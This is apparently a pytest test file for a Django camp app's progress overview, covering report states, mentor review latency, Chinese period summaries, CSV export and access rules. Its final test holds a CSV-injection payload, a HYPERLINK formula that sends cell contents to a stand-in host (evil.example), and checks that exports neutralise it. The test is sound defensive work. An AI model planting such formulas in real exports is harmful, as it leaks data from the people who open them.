"""The TA progress overview: cell states, completion, waiting reviews, mentor
latency, the period summary, the CSV, filters, access and query count.

Camp calendar (Asia/Shanghai, due 23:59 the day after a period's last day):
  #1 03-03..03-16 due 03-17, #2 03-17..03-30 due 03-31, #3 03-31..04-13 due 04-14,
  #4 04-14..04-27 due 04-28. NOW is inside #3: #3 is current, #2 the last one due.
"""

import csv
import datetime
import io
import re
import zoneinfo

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from camp.models import Role
from reports.access import overview_students
from reports.models import Allowance, GitHubEvidence, GitHubPullRequest, Report, Review
from reports.overview.export import spreadsheet_text
from reports.overview.grid import build_overview
from reports.overview.summary import period_summary
from reports.status import State, is_late, latest_review_verdict, report_state
from tests.factories import (
    AllowanceFactory,
    MembershipFactory,
    MentorshipFactory,
    ReportFactory,
    ReviewFactory,
    UserFactory,
)

SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
NOW = datetime.datetime(2025, 4, 10, 12, 0, tzinfo=SHANGHAI)


def at(*args) -> datetime.datetime:
    return datetime.datetime(*args, tzinfo=SHANGHAI)


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def history(camp):
    """alice: on time, late, nothing yet. bob: reviewed, needs changes, a draft.
    carol: excused, missing, submitted early for the current period."""
    p1, p2, p3 = camp.period(1), camp.period(2), camp.period(3)
    reports = {
        "alice1": ReportFactory(student=camp.alice, period=p1, submitted_at=at(2025, 3, 17, 21)),
        "alice2": ReportFactory(student=camp.alice, period=p2, submitted_at=at(2025, 4, 2, 10)),
        "bob1": ReportFactory(student=camp.bob, period=p1, submitted_at=at(2025, 3, 16, 20)),
        "bob2": ReportFactory(student=camp.bob, period=p2, submitted_at=at(2025, 3, 30, 9)),
        "bob3": ReportFactory(student=camp.bob, period=p3, status="draft"),
        "carol3": ReportFactory(student=camp.carol, period=p3, submitted_at=at(2025, 4, 9, 12)),
    }
    ReviewFactory(
        report=reports["bob1"], mentor=camp.mentor_a, created_at=at(2025, 3, 17, 2)
    )  # 6 h
    ReviewFactory(
        report=reports["bob1"], mentor=camp.mentor_b, created_at=at(2025, 3, 18, 20)
    )  # 48 h
    ReviewFactory(
        report=reports["bob2"],
        mentor=camp.mentor_a,
        verdict=Review.Verdict.APPROVED,
        created_at=at(2025, 3, 30, 19),
    )  # 10 h
    ReviewFactory(
        report=reports["bob2"],
        mentor=camp.mentor_b,
        verdict=Review.Verdict.NEEDS_CHANGES,
        created_at=at(2025, 4, 1, 9),
    )  # 48 h, and the latest verdict
    AllowanceFactory(student=camp.carol, period=p1, kind=Allowance.Kind.EXCUSED)
    return reports


def overview_of(camp, user=None, now=NOW):
    return build_overview(camp.cohort, overview_students(user or camp.ta, camp.cohort), now)


def states(overview, periods=4):
    return {row.login: [c.state for c in row.cells[:periods]] for row in overview.rows}


def cell(overview, student, number):
    row = next(r for r in overview.rows if r.student == student)
    return row.cells[number - 1]


# --- cells -------------------------------------------------------------------------------


def test_every_cell_state(camp, history):
    overview = overview_of(camp)
    assert states(overview) == {
        "alice": [State.ON_TIME, State.LATE, State.OPEN, State.FUTURE],
        "bob": [State.REVIEWED, State.NEEDS_CHANGES, State.OPEN, State.FUTURE],
        "carol": [State.EXCUSED, State.MISSING, State.ON_TIME, State.FUTURE],
    }
    late = cell(overview, camp.alice, 2)
    assert late.days_late == 2  # 34 hours after the deadline: two started days
    assert late.url == f"/reports/{history['alice2'].pk}/"
    missing = cell(overview, camp.carol, 2)
    assert (missing.report_id, missing.days_late) == (None, 10)
    reviewed = cell(overview, camp.bob, 1)
    assert reviewed.reviewed_at == at(2025, 3, 17, 2)
    # A draft is nobody's business but its author's: no link, counts as nothing.
    assert cell(overview, camp.bob, 3).report_id is None


@pytest.mark.parametrize(
    ("submitted_at", "now", "state", "days_late"),
    [
        (None, NOW, State.OPEN, None),  # originally due 03-31, extended to 04-12
        (None, at(2025, 4, 13, 9), State.MISSING, 1),
        (at(2025, 4, 5, 10), NOW, State.ON_TIME, None),  # late for the period, not for carol
        (at(2025, 4, 13, 8), at(2025, 4, 14, 9), State.LATE, 1),
    ],
)
def test_extension_moves_the_deadline(camp, submitted_at, now, state, days_late):
    period = camp.period(2)
    AllowanceFactory(
        student=camp.carol,
        period=period,
        kind=Allowance.Kind.EXTENSION,
        extended_due_at=at(2025, 4, 12, 23, 59),
    )
    if submitted_at:
        ReportFactory(student=camp.carol, period=period, submitted_at=submitted_at)
    result = cell(overview_of(camp, now=now), camp.carol, 2)
    assert (result.state, result.days_late) == (state, days_late)


def test_excused_beats_missing_but_a_submission_beats_excused(camp):
    AllowanceFactory(student=camp.alice, period=camp.period(2), kind=Allowance.Kind.EXCUSED)
    AllowanceFactory(student=camp.bob, period=camp.period(2), kind=Allowance.Kind.EXCUSED)
    ReportFactory(student=camp.bob, period=camp.period(2))
    overview = overview_of(camp)
    assert cell(overview, camp.alice, 2).state == State.EXCUSED
    assert cell(overview, camp.bob, 2).state == State.ON_TIME
    assert overview.completion[camp.period(2).pk].expected == 2  # alice is not expected


def test_before_the_cohort_starts_everything_is_future(camp):
    overview = overview_of(camp, now=at(2025, 2, 1, 9))
    assert {s for row in states(overview, 9).values() for s in row} == {State.FUTURE}
    assert overview.last_due_period is None and overview.missing_now == []


# --- the figures above the matrix --------------------------------------------------------


def test_completion_missing_now_and_not_submitted_yet(camp, history):
    overview = overview_of(camp)
    completion = {p.number: overview.completion[p.pk] for p in overview.periods}
    assert (completion[1].submitted, completion[1].expected) == (2, 2)  # carol excused
    assert (completion[2].submitted, completion[2].expected) == (2, 3)
    assert (completion[3].submitted, completion[3].expected) == (1, 3)
    assert overview.current_period.number == 3 and overview.last_due_period.number == 2
    assert [r.login for r in overview.not_submitted_current] == ["alice", "bob"]
    assert [r.login for r in overview.missing_now] == ["carol"]


def test_waiting_for_review_over_three_days_oldest_first(camp, history):
    overview = overview_of(camp)
    waiting = [(w.row.login, w.cell.period.number) for w in overview.waiting_review]
    # carol's #3 waits one day only; bob's are reviewed.
    assert waiting == [("alice", 1), ("alice", 2)]
    assert overview.waiting_review[0].waiting == NOW - at(2025, 3, 17, 21)


def test_median_time_to_review_per_mentor(camp, history):
    latency = {m.mentor.username: m for m in overview_of(camp).mentor_latency}
    assert latency["mentor_a"].median == datetime.timedelta(hours=8)  # 6 h and 10 h
    assert latency["mentor_a"].reviewed == 2
    assert latency["mentor_a"].waiting == 2  # alice #1 and #2
    assert latency["mentor_b"].median == datetime.timedelta(hours=48)
    assert latency["mentor_b"].waiting == 1  # carol #3


# --- period summary ----------------------------------------------------------------------


def test_period_summary_in_the_camps_format(camp, history):
    text = period_summary(
        camp.cohort,
        camp.period(2),
        overview_students(camp.ta, camp.cohort),
        report_url="https://camp.example.org/",
    )
    assert text == (
        "### 2025.03.17~2025.03.30 周报汇总\n"
        "\n"
        "#### 项目一：算子补全\n"
        "\n"
        f"- [x] @alice (@mentor-a) [周报](https://camp.example.org/reports/{history['alice2'].pk}/)\n"
        f"- [x] @bob (@mentor-a, @mentor-b) [周报](https://camp.example.org/reports/{history['bob2'].pk}/)\n"
        "\n"
        "#### 项目二：文档建设\n"
        "\n"
        "- [ ] @carol (@mentor-b)\n"
    )


def test_period_summary_excused_draft_and_link_function(camp, history):
    text = period_summary(
        camp.cohort,
        camp.period(3),
        overview_students(camp.ta, camp.cohort),
        report_url=lambda pk: f"https://example.org/r/{pk}",
    )
    assert "- [ ] @bob (@mentor-a, @mentor-b)\n" in text  # a draft is not a submission
    assert (
        f"- [x] @carol (@mentor-b) [周报](https://example.org/r/{history['carol3'].pk})\n" in text
    )
    excused = period_summary(
        camp.cohort,
        camp.period(1),
        overview_students(camp.ta, camp.cohort),
        report_url="https://x",
    )
    assert "- [x] @carol (@mentor-b) 请假\n" in excused


def test_period_summary_without_a_base_url_has_no_links(camp, history):
    # A caller that does not know the app's public address gets plain lines.
    text = period_summary(camp.cohort, camp.period(2), overview_students(camp.ta, camp.cohort))
    assert "](" not in text
    assert "- [x] @bob (@mentor-a, @mentor-b)\n" in text


def test_period_summary_of_a_mentor_lists_only_their_students(camp, history):
    text = period_summary(
        camp.cohort,
        camp.period(2),
        overview_students(camp.mentor_a, camp.cohort),
        report_url="https://x",
    )
    assert "@alice" in text and "@bob" in text
    assert "@carol" not in text and "项目二" not in text


def test_student_without_project_or_mentor(camp):
    dave = UserFactory(username="dave")
    MembershipFactory(user=dave, cohort=camp.cohort, role=Role.STUDENT, project=None)
    text = period_summary(
        camp.cohort, camp.period(1), overview_students(camp.ta, camp.cohort), report_url="x"
    )
    assert text.endswith("#### 未分配项目\n\n- [ ] @dave\n")


# --- the page ----------------------------------------------------------------------------


def test_ta_page_shows_matrix_figures_summary_and_legend(client, camp, history):
    client.force_login(camp.ta)
    response = client.get("/overview/camp/")
    assert response.status_code == 200
    page = response.content.decode()
    # alice's row names her reports (overview.js links the marks) and days late.
    alice = row_entries(page, "alice")
    assert alice[0] == str(history["alice1"].pk)
    assert alice[1] == f"{history['alice2'].pk}/2"  # due 03-31 23:59, in 04-02 10:00
    assert alice[2:] == [""] * 7
    assert "<td class=s-l>迟" in page and "<td class=s-t>交" in page  # late, on time
    assert "<td class=s-m>缺" in page and "<td class=s-e>免" in page  # missing, excused
    assert 'data-report-url="/reports/0/"' in page
    assert "data-completion>1 / 3" in page
    assert "周报汇总" in page and 'id="summary-text"' in page
    # The default summary is the period whose deadline passed last.
    assert response.context["summary_period"].number == 2
    for state in State:
        if state != State.DRAFT:
            assert str(state.label) in page
    assert "/static/camp/overview.js" in page


def row_entries(page: str, login: str) -> list[str]:
    """The data-cells entries of a student's row on the overview page."""
    found = re.search(
        rf'<tr data-cells="([^"]*)"><th scope="row"><span class="login">@{login}<', page
    )
    assert found, login
    return found.group(1).split(",")


def test_summary_period_can_be_chosen(client, camp, history):
    client.force_login(camp.ta)
    response = client.get("/overview/camp/", {"summary": 1})
    assert response.context["summary"].startswith("### 2025.03.03~2025.03.16 周报汇总")


def test_summary_lists_everyone_whatever_the_filters(client, camp, history):
    client.force_login(camp.ta)
    unfiltered = client.get("/overview/camp/").context["summary"]
    response = client.get("/overview/camp/", {"project": camp.project_a.pk})
    filtered = response.context["summary"]
    assert filtered == unfiltered
    assert "@carol" in filtered
    assert [r.login for r in response.context["overview"].rows] == ["alice", "bob"]


def test_filters_project_mentor_status(client, camp, history):
    client.force_login(camp.ta)

    def logins(**params):
        response = client.get("/overview/camp/", params)
        assert response.status_code == 200
        return [row.login for group in response.context["groups"] for row in group.rows]

    assert logins() == ["alice", "bob", "carol"]
    assert logins(project=camp.project_b.pk) == ["carol"]
    assert logins(mentor=camp.mentor_b.pk) == ["bob", "carol"]
    assert logins(status="missing") == ["carol"]
    assert logins(status="late", project=camp.project_a.pk) == ["alice"]
    assert logins(status="excused", project=camp.project_a.pk) == []


def test_bad_filters_are_reported_and_ignored(client, camp, history):
    client.force_login(camp.ta)
    response = client.get("/overview/camp/", {"project": "nope", "status": "bogus"})
    assert response.status_code == 200
    assert 'role="alert"' in response.content.decode()
    assert len(list(response.context["overview"].rows)) == 3
    other_project = camp.other_cohort.projects.create(title="elsewhere")
    response = client.get("/overview/camp/", {"project": other_project.pk})
    assert 'role="alert"' in response.content.decode()


def test_english_interface(client, camp, history):
    client.force_login(camp.ta)
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    page = client.get("/overview/camp/").content.decode()
    assert "Progress overview" in page
    # The marks follow the language; open is not "O", which reads as zero.
    assert "<td class=s-l>L" in page and "<td class=s-m>M" in page
    assert "<td class=s-o>…" in page and "<td class=s-o>O" not in page
    client.post("/i18n/setlang/", {"language": "zh-hans", "next": "/"})
    page = client.get("/overview/camp/").content.decode()
    assert "进度总览" in page and "<td class=s-o>待" in page


def test_home_links_staff_to_the_overview(client, camp):
    for user, linked in [(camp.ta, True), (camp.mentor_a, True), (camp.alice, False)]:
        client.force_login(user)
        assert ('href="/overview/camp/"' in client.get("/").content.decode()) is linked


# --- CSV ---------------------------------------------------------------------------------


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_opens_in_excel_with_chinese_intact(client, camp, history):
    """Excel takes a CSV for UTF-8 only when it starts with a byte order mark."""
    client.force_login(camp.ta)
    content = client.get("/overview/camp.csv").content
    assert content.startswith(b"\xef\xbb\xbfstudent_login,")
    assert "项目一：算子补全" in content.decode("utf-8-sig")


def test_csv_one_row_per_student_and_period(client, camp, history):
    client.force_login(camp.ta)
    response = client.get("/overview/camp.csv")
    assert response.status_code == 200
    assert 'filename="overview-camp-2025-04-10.csv"' in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0] == [
        "student_login",
        "student_name",
        "project",
        "mentors",
        "period",
        "period_start",
        "period_end",
        "due_at",
        "status",
        "submitted_at",
        "reviewed_at",
        "days_late",
        "prs_opened",
        "prs_merged",
        "reviews_given",
        "issues_opened",
    ]
    assert len(rows) == 1 + 3 * 9
    by_key = {(r[0], r[4]): r for r in rows[1:]}
    assert by_key[("alice", "2")] == [
        "alice",
        "Alice",
        "项目一：算子补全",
        "mentor-a",
        "2",
        "2025-03-17",
        "2025-03-30",
        "2025-03-31T23:59:00+08:00",
        "late",
        "2025-04-02T10:00:00+08:00",
        "",
        "2",
        *["", "", "", ""],  # no evidence collected
    ]
    assert by_key[("bob", "1")][3] == "mentor-a mentor-b"
    assert by_key[("bob", "1")][8:11] == [
        "reviewed",
        "2025-03-16T20:00:00+08:00",
        "2025-03-17T02:00:00+08:00",
    ]
    assert by_key[("carol", "2")][8:12] == ["missing", "", "", "10"]
    assert by_key[("carol", "1")][8] == "excused"
    assert by_key[("carol", "9")][8] == "future"


def test_csv_follows_access_and_filters(client, camp, history):
    client.force_login(camp.mentor_a)
    logins = {row[0] for row in read_csv(client.get("/overview/camp.csv"))[1:]}
    assert logins == {"alice", "bob"}
    client.force_login(camp.ta)
    filtered = read_csv(client.get("/overview/camp.csv", {"status": "missing"}))[1:]
    assert {row[0] for row in filtered} == {"carol"}
    for user in [camp.alice, camp.other_ta, camp.outsider, camp.stranger]:
        client.force_login(user)
        assert client.get("/overview/camp.csv").status_code == 404
    client.logout()
    assert client.get("/overview/camp.csv").status_code == 404


# --- access ------------------------------------------------------------------------------


def test_ta_and_superuser_see_everyone(client, camp, history):
    for user in [camp.ta, camp.admin]:
        client.force_login(user)
        response = client.get("/overview/camp/")
        assert response.status_code == 200
        assert [r.login for r in response.context["overview"].rows] == ["alice", "bob", "carol"]


def test_mentor_sees_only_their_students(client, camp, history):
    client.force_login(camp.mentor_a)
    response = client.get("/overview/camp/")
    assert response.status_code == 200
    assert [r.login for r in response.context["overview"].rows] == ["alice", "bob"]
    page = response.content.decode()
    assert "@carol" not in page and f"/reports/{history['carol3'].pk}/" not in page
    client.force_login(camp.mentor_b)
    assert [r.login for r in client.get("/overview/camp/").context["overview"].rows] == [
        "bob",
        "carol",
    ]


def test_students_outsiders_and_anonymous_get_404(client, camp, history):
    for user in [camp.alice, camp.bob, camp.other_ta, camp.outsider, camp.stranger]:
        client.force_login(user)
        assert client.get("/overview/camp/").status_code == 404, user
    client.logout()
    assert client.get("/overview/camp/").status_code == 404
    client.force_login(camp.ta)
    assert client.get("/overview/no-such-cohort/").status_code == 404
    assert client.get("/overview/other/").status_code == 404


def test_other_ta_sees_their_own_cohort(client, camp):
    client.force_login(camp.other_ta)
    response = client.get("/overview/other/")
    assert response.status_code == 200
    assert [r.login for r in response.context["overview"].rows] == ["outsider"]


def test_only_get(client, camp):
    client.force_login(camp.ta)
    assert client.post("/overview/camp/").status_code == 405


# --- pending on GitHub -------------------------------------------------------------------


def open_pull(camp, number, student, paths, state=GitHubPullRequest.State.OPEN):
    pull = GitHubPullRequest.objects.create(
        cohort=camp.cohort,
        number=number,
        html_url=f"https://github.com/o/r/pull/{number}",
        author_login=student.github_login,
        state=state,
        report_paths=paths,
    )
    pull.students.add(student)
    return pull


def test_open_pull_requests_show_as_pending_but_do_not_count(client, camp, history):
    folder = "WeeklyReports/Camp/alice"
    open_pull(camp, 7, camp.alice, [f"{folder}/[WeeklyReport]2025.03.31~2025.04.13.md"])
    open_pull(camp, 8, camp.carol, ["WeeklyReports/Camp/carol/notes.md"])  # no dates: now's period
    open_pull(
        camp,
        9,
        camp.bob,
        ["WeeklyReports/Camp/bob/2025.03.03~2025.03.16.md"],
        state=GitHubPullRequest.State.MERGED,
    )
    overview = build_overview(camp.cohort, overview_students(camp.ta, camp.cohort), NOW)
    cells = {(row.login, cell.period.number): cell for row in overview.rows for cell in row.cells}
    assert cells[("alice", 3)].pending_url == "https://github.com/o/r/pull/7"
    assert cells[("alice", 3)].state == State.OPEN  # still not submitted
    assert cells[("carol", 3)].pending_url is None  # carol already submitted #3
    assert cells[("bob", 1)].pending_url is None  # merged, not pending
    assert overview.current_completion.submitted == 1

    client.force_login(camp.ta)
    page = client.get("/overview/camp/").content.decode()
    assert 'class="pending" href="https://github.com/o/r/pull/7"' in page
    assert "https://github.com/o/r/pull/9" not in page


# --- speed -------------------------------------------------------------------------------


def page_queries(client) -> tuple[int, ...]:
    """Queries of the page, its CSV, the API's overview and a period summary."""
    counts = []
    for path, query in [
        ("/overview/camp/", {"mentor": "", "status": "late"}),
        ("/overview/camp.csv", {}),
        ("/api/cohorts/camp/overview/", {}),
        ("/api/cohorts/camp/periods/2/summary/", {}),
    ]:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(path, query).status_code == 200, path
        counts.append(len(queries))
    return tuple(counts)


def test_query_count_does_not_grow_with_the_cohort(client, camp, history):
    client.force_login(camp.ta)
    small = page_queries(client)
    for n in range(12):
        student = UserFactory(username=f"extra{n}")
        MembershipFactory(
            user=student,
            cohort=camp.cohort,
            role=Role.STUDENT,
            project=camp.project_a if n % 2 else camp.project_b,
        )
        mentor = camp.mentor_a if n % 3 else camp.mentor_b
        MentorshipFactory(cohort=camp.cohort, student=student, mentor=mentor)
        for number in (1, 2, 3):
            report = ReportFactory(student=student, period=camp.period(number))
            if n % 2:
                ReviewFactory(report=report, mentor=mentor)
        AllowanceFactory(student=student, period=camp.period(4))
        open_pull(camp, 100 + n, student, [f"x/{student}/2025.04.14~2025.04.27.md"])
        GitHubEvidence.objects.create(
            student=student,
            period=camp.period(3),
            login=str(student),
            prs_merged_count=n % 2,
            fetched_at=NOW,
        )
    larger = page_queries(client)
    assert larger == small
    assert small[0] <= 20


# --- one rule for the whole app ----------------------------------------------------------

HOURS = st.integers(min_value=-400, max_value=400)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    submitted=st.one_of(st.none(), st.just("draft"), HOURS),
    verdicts=st.lists(st.sampled_from(list(Review.Verdict)), max_size=3),
    allowance=st.one_of(st.none(), st.just("excused"), HOURS),
    now_hours=HOURS,
)
def test_cells_agree_with_report_state_on_model_instances(
    camp, submitted, verdicts, allowance, now_hours
):
    """The overview reads plain rows for speed; its states must be exactly those
    of reports.status.report_state on the model instances every other page uses."""
    period = camp.period(2)
    due = period.due_at
    report = None
    if submitted == "draft":
        report = ReportFactory(student=camp.alice, period=period, status="draft")
    elif submitted is not None:
        report = ReportFactory(
            student=camp.alice,
            period=period,
            submitted_at=due + datetime.timedelta(hours=submitted),
        )
    for index, verdict in enumerate(verdicts if report and report.is_submitted else []):
        ReviewFactory(
            report=report,
            mentor=camp.mentor_a,
            verdict=verdict,
            created_at=report.submitted_at + datetime.timedelta(hours=index + 1),
        )
    grant = None
    if allowance == "excused":
        grant = AllowanceFactory(student=camp.alice, period=period, kind=Allowance.Kind.EXCUSED)
    elif allowance is not None:
        grant = AllowanceFactory(
            student=camp.alice,
            period=period,
            kind=Allowance.Kind.EXTENSION,
            extended_due_at=due + datetime.timedelta(hours=allowance),
        )
    now = due + datetime.timedelta(hours=now_hours)
    try:
        expected = report_state(
            period=period,
            report=report,
            allowance=grant,
            verdict=latest_review_verdict(list(report.reviews.all())) if report else None,
            now=now,
        )
        got = cell(overview_of(camp, now=now), camp.alice, 2)
        assert got.state == expected
        assert (got.report_id is not None) == bool(report and report.is_submitted)
        assert (got.days_late is not None) == (
            expected == State.MISSING or bool(report and is_late(report, period, grant))
        )
    finally:
        Report.objects.filter(student=camp.alice).delete()
        Allowance.objects.filter(student=camp.alice).delete()


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=st.text(
        st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1, max_size=40
    ),
    title=st.text(
        st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1, max_size=40
    ),
)
def test_csv_reads_back_any_name_and_title_whole(client, camp, name, title):
    """The student's and project's columns go through csv.writer once and are
    reused on every line: commas, quotes and line breaks in them still read back
    as one field each, on every line."""
    camp.alice.display_name = name
    camp.alice.save()
    camp.project_a.title = title
    camp.project_a.save()
    client.force_login(camp.ta)
    rows = read_csv(client.get("/overview/camp.csv"))
    assert {len(row) for row in rows} == {16}
    alice = [row for row in rows if row[0] == "alice"]
    assert len(alice) == 9
    for row in alice:
        assert row[1:3] == [spreadsheet_text(name), spreadsheet_text(title)]


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_look_like_formulas_are_text(client, camp, start):
    camp.alice.display_name = start + HOSTILE_NAME.lstrip("=")
    camp.alice.save()
    camp.project_a.title = "@SUM(1+1)"
    camp.project_a.save()
    client.force_login(camp.ta)
    rows = read_csv(client.get("/overview/camp.csv"))
    alice = next(row for row in rows if row[0] == "alice")
    assert alice[1] == "'" + camp.alice.display_name
    assert alice[2] == "'@SUM(1+1)"
    harmless = next(row for row in rows if row[0] == "carol")
    assert harmless[1] == "Carol"
